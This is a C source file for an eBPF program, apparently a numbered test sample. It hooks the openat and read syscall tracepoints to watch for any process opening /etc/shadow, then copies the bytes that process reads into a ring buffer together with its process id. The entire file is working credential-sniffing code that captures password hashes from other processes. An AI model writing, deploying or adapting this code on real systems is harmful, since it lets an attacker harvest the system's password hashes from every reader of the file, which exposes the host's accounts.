// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// T13: the content of one file, recognised by its path literal, whoever reads it.
#include "sample.h"

LICENSE;

struct snoop {
	u32 pid;
	s64 len;
	char data[256];
};
HASH(watch_open, u64, u32, 64);
HASH(watch_fd, u64, u32, 64);
HASH(watch_buf, u64, u64, 64);
RINGBUF(shadow_out, 1 << 14);

SEC("tp/syscalls/sys_enter_openat")
int shadow_open(struct tp_enter *ctx)
{
	u64 id = bpf_get_current_pid_tgid();
	char path[16] = {};
	u32 one = 1;

	bpf_probe_read_user_str(path, sizeof(path), (void *)ctx->args[1]);
	if (IS(path, "/etc/shadow"))
		bpf_map_update_elem(&watch_open, &id, &one, BPF_ANY);
	return 0;
}

SEC("tp/syscalls/sys_exit_openat")
int shadow_opened(struct tp_exit *ctx)
{
	u64 id = bpf_get_current_pid_tgid();
	u32 fd = ctx->ret;

	if (bpf_map_lookup_elem(&watch_open, &id)) {
		bpf_map_update_elem(&watch_fd, &id, &fd, BPF_ANY);
		bpf_map_delete_elem(&watch_open, &id);
	}
	return 0;
}

SEC("tp/syscalls/sys_enter_read")
int shadow_read(struct tp_enter *ctx)
{
	u64 id = bpf_get_current_pid_tgid(), buf = ctx->args[1];
	u32 *fd = bpf_map_lookup_elem(&watch_fd, &id);

	if (fd && *fd == (u32)ctx->args[0])
		bpf_map_update_elem(&watch_buf, &id, &buf, BPF_ANY);
	return 0;
}

SEC("tp/syscalls/sys_exit_read")
int shadow_copy(struct tp_exit *ctx)
{
	u64 id = bpf_get_current_pid_tgid(), *buf = bpf_map_lookup_elem(&watch_buf, &id);
	struct snoop *s;

	if (!buf)
		return 0;
	s = bpf_ringbuf_reserve(&shadow_out, sizeof(*s), 0);
	if (s) {
		s->pid = tgid();
		s->len = ctx->ret;
		bpf_probe_read_user(s->data, sizeof(s->data), (void *)*buf);
		bpf_ringbuf_submit(s, 0);
	}
	bpf_map_delete_elem(&watch_buf, &id);
	return 0;
}
